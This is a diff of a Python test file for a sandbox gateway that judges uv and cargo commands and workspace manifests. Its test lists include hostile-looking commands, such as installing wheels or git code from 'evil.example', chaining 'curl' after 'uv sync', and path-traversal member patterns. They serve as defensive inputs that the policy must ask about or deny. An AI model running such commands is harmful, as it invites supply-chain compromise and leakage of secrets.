@@ -12,7 +12,7 @@ from gateway.model.call import RawCall
 from gateway.policy.confine import grants_of
 from gateway.policy.fetching import FETCHERS, Fetch, OtherwiseError, Project, fetch_of
 from gateway.policy.fetching.cargo import LOCKED, WANTED, locked_in
-from gateway.policy.fetching.uv import NAMES, PROJECT, names_in
+from gateway.policy.fetching.uv import BUILD, NAMES, PROJECT, names_in
 
 HELD = {"id": "held", "allow": {"effect": ["code", "opaque", "write", "connect", "env", "read"], "contained": True}}
 ROOT = "/home/dev/project"
@@ -82,7 +82,7 @@ def test_an_install_in_a_project_is_contained(judged, text: str, expected: Fetch
         "uv add https://evil.example/x.whl", "uv add ./x", "uv add --git https://e/x x", "uv add -r r.txt",
         "uv add --editable ../x", "uv add 'x @ https://evil.example/x.whl'", "uv --directory ../x sync",
         "uv sync --config-file x.toml", "uv sync --directory ../other", "uv sync --script x.py",
-        "uv sync --keyring-provider subprocess", "uv sync --no-binary", "uv sync --all-packages",
+        "uv sync --keyring-provider subprocess", "uv sync --no-binary",
         "uv run --with git+https://evil.example/x y.py", "uv run --with-requirements r.txt y.py",
         "uv run --with six --index-url https://e/ x.py", "uv tool install x", "uv publish", "uv python install 3.13",
         "uv sync && pip install -t l six", "uv sync && curl https://pypi.org/secret", "uv add $X",
@@ -93,10 +93,28 @@ def test_everything_else_asks(judged, text: str) -> None:
     assert (verdict.decision.word, verdict.contained) in (("ask", False), ("deny", False)), verdict.reason
 
 
-def needs(name: str, files: dict[str, str], *named: str, flags: tuple[str, ...] = ()) -> dict[str, str]:
+class Tree:
+    """The files of a workspace; nothing beside it can be read."""
+
+    def __init__(self, files: dict[str, str]) -> None:
+        self.files = {f"{ROOT}/{path}": text for path, text in files.items()}
+
+    def __call__(self, path: str) -> str | None:
+        if not path.startswith(f"{ROOT}/"):
+            raise OtherwiseError("outside")
+        return self.files.get(path)
+
+    def folders(self, path: str) -> tuple[str, ...]:
+        within = [each.removeprefix(f"{path}/") for each in self.files if each.startswith(f"{path}/")]
+        return tuple(sorted({each.partition("/")[0] for each in within if "/" in each}))
+
+
+def needs(
+    name: str, files: dict[str, str], *named: str, flags: tuple[str, ...] = (), folder: str = ""
+) -> dict[str, str]:
     """The files that the step works from, of a project with these."""
-    fetch = Fetch(name, named, projects=(Project(ROOT),), flags=flags)
-    return FETCHERS[name].needs(fetch, lambda path: files.get(path.removeprefix(f"{ROOT}/")))
+    fetch = Fetch(name, named, projects=(Project(f"{ROOT}/{folder}".rstrip("/")),), flags=flags)
+    return FETCHERS[name].needs(fetch, Tree(files))
 
 
 def wanted(files: dict[str, str], where: str) -> list[dict[str, object]]:
@@ -254,7 +272,10 @@ def test_a_project_of_uv_is_asked_for_without_what_runs() -> None:
             "dynamic = ['dependencies']", "requires-python = '\"'", "[tool.uv.sources]\nx = {git = 'https://e/'}",
             "[[tool.uv.index]]\nurl = 'https://e/'", "[tool.uv]\nindex-url = 'https://e/'",
             "[tool.uv]\nextra-index-url = ['https://e/']",
-            "[tool.uv]\nfind-links = ['https://e/']", "[tool.uv.workspace]\nmembers = ['x']",
+            "[tool.uv]\nfind-links = ['https://e/']", "[tool.uv.workspace]\nmembers = ['../x']",
+            "[tool.uv.workspace]\nmembers = ['/x']", "[tool.uv.workspace]\nmembers = ['**']",
+            "[tool.uv.workspace]\nmembers = [1]", "[tool.uv.sources]\nx = {workspace = true, git = 'https://e/'}",
+            "[tool.uv.sources]\nx = {path = '../x'}", "[tool.uv.sources]\n'a\"b' = {workspace = true}",
             "[tool.uv]\noverride-dependencies = ['x']",
             "[tool.uv]\nkeyring-provider = 'subprocess'", "[tool.uv]\nenvironments = ['x']", "[tool]\nuv = 1",
             "[dependency-groups]\ndev = [{include-group = 'none'}]", "[dependency-groups]\ndev = [{path = 'x'}]",
@@ -277,6 +298,97 @@ def test_packages_of_elsewhere_are_not_fetched(files) -> None:
         needs("uv", files)
 
 
+ROOTS = {
+    "a project": "[project]\nname = 'top'\nversion = '1'\ndependencies = ['core', 'httpx']\n",
+    "none of its own": "[dependency-groups]\ndev = ['pytest']\n",
+}
+WORKSPACE = """
+[tool.uv.workspace]
+members = ["packages/*", "./app"]
+exclude = ["packages/old*"]
+[tool.uv.sources]
+core = { workspace = true }
+"""
+MEMBERS = {
+    "packages/core/pyproject.toml": "[project]\nname = 'core'\nversion = '1'\ndependencies = ['idna']\n"
+    "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n",
+    "packages/old-one/pyproject.toml": "[project]\nname = 'old'\nversion = '1'\ndependencies = ['./elsewhere']\n",
+    "packages/notes/README.md": "",
+    "app/pyproject.toml": "[project]\nname = 'app'\nversion = '1'\ndependencies = ['core', 'rich']\n"
+    "[tool.uv.sources]\ncore = { workspace = true }\n",
+}
+
+
+@pytest.mark.parametrize("folder", ["", "app", "packages/core"])
+@pytest.mark.parametrize("root", ROOTS)
+def test_a_workspace_is_fetched_as_a_whole_from_each_of_its_folders(root: str, folder: str) -> None:
+    lock = "".join(
+        package(name, f"{{ {kind} = '{where}' }}")
+        for name, kind, where in (
+            ("top", "virtual", "."),
+            ("core", "editable", "packages/core"),
+            ("app", "virtual", "app"),
+        )
+    )
+    files = {"pyproject.toml": ROOTS[root] + WORKSPACE, "uv.lock": lock + package("rich"), **MEMBERS}
+    found = needs("uv", files, "ruff", folder=folder)
+    named = {"ruff", "idna", "rich", "hatchling", *(["httpx"] if root == "a project" else ["pytest"])}
+    assert named == set(found.pop(NAMES).split()) - {"editables"}
+    assert found.pop(BUILD).split()[0] == "hatchling"
+    assert found.pop(f"{PROJECT}/uv.lock") == files["uv.lock"]
+    read = {path: tomllib.loads(text) for path, text in found.items()}
+    assert read.keys() == {f"{PROJECT}/{each}pyproject.toml" for each in ("", "packages/core/", "app/")}
+    top = read[f"{PROJECT}/pyproject.toml"]
+    assert top["tool"]["uv"] == {
+        "workspace": {"members": ["packages/core", "app"]}, "sources": {"core": {"workspace": True}},
+    }  # fmt: skip
+    assert ("project" in top, top["dependency-groups"]["gateway-added"]) == (root == "a project", ["ruff"])
+    assert read[f"{PROJECT}/app/pyproject.toml"]["tool"]["uv"] == {"sources": {"core": {"workspace": True}}}
+
+
+def test_a_member_that_a_lock_names_beside_the_workspace_is_not_fetched() -> None:
+    files = {"pyproject.toml": ROOTS["a project"] + WORKSPACE, **MEMBERS}
+    with pytest.raises(OtherwiseError):
+        needs("uv", files | {"uv.lock": package("x", "{ editable = 'packages/old-one' }")})
+
+
+def test_a_folder_that_a_workspace_leaves_out_is_a_project_of_its_own() -> None:
+    files = {"pyproject.toml": ROOTS["a project"] + WORKSPACE, **MEMBERS}
+    files["packages/old-one/pyproject.toml"] = "[project]\nname = 'old'\nversion = '1'\ndependencies = ['six']\n"
+    assert needs("uv", files, folder="packages/old-one")[NAMES] == "six\n"
+
+
+CRATES = {
+    "Cargo.toml": "[workspace]\nmembers = ['crates/*', 'tools/?x']\nexclude = ['crates/old']\n"
+    "[workspace.dependencies]\nserde = '1'\n",
+    "crates/a/Cargo.toml": "[dependencies]\nlog = '0.4'\nserde = { workspace = true }\n"
+    "near = { path = '../../near' }\n",
+    "crates/old/Cargo.toml": "[dependencies]\nevil = { git = 'https://e/' }\n",
+    "crates/notes/README.md": "",
+    "tools/ax/Cargo.toml": "[dependencies]\nlibc = '0.2'\n",
+    "tools/abx/Cargo.toml": "[dependencies]\nevil = { git = 'https://e/' }\n",
+    "near/Cargo.toml": "[dependencies]\nrand = '0.8'\nfar = { path = '../../far' }\n",
+}
+
+
+@pytest.mark.parametrize("folder", ["", "crates/a", "near"])
+def test_members_that_a_pattern_or_a_path_means_ask_for_their_crates_from_each_folder(folder: str) -> None:
+    found = needs("cargo", CRATES, folder=folder)
+    assert {each["package"] for each in wanted(found, WANTED)} == {"serde", "log", "libc", "rand"}
+
+
+@pytest.mark.parametrize("pattern", ["**", "../x", "/x", "[ab]", "a/../b", "crates/**/x"])
+def test_patterns_of_members_that_lead_elsewhere_are_not_fetched(pattern: str) -> None:
+    with pytest.raises(OtherwiseError):
+        needs("cargo", {**CRATES, "Cargo.toml": f"[workspace]\nmembers = ['{pattern}']\n"})
+
+
+def test_only_so_many_folders_are_looked_into() -> None:
+    many = {f"d{number}/{other}/x": "" for number in range(300) for other in ("a",)}
+    with pytest.raises(OtherwiseError, match="too many folders"):
+        needs("cargo", {**many, "Cargo.toml": "[workspace]\nmembers = ['*/*']\n"})
+
+
 def test_names_of_a_lock_file_are_those_of_the_registry() -> None:
     own = '[[package]]\nname = "mine"\nsource = { virtual = "." }\n'
-    assert names_in(own + package("A.b") + package("c")) == ["a-b", "c"]
+    assert names_in(own + package("A.b") + package("c"), (".",)) == ["a-b", "c"]
